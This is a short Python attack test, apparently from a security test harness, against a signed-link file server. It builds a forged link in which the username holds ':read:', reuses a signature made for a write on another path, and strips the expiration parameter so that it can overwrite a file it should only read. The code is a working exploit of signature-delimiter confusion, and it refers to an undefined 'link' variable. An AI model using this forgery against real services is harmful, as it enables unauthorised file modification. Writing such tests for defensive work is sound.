# aim: change a file with a link that was made to read another
# mechanism: a file whose name holds what a link is signed over: who may read it can write another
# server: links
# plain: naive

def attack():
    answer = request("POST", link_to(path="secret.txt", username="x:read:user", signature=signed_for("secret.txt:write:x")).replace(f"&signature_expiration={link['signature_expiration']}", ""), b"changed", headers={"Content-Type": "application/octet-stream"})
    return answer.is_good and b"everybody" not in answer.body and f"the link is good: {answer.body[:100]!r}"


judge(attack)
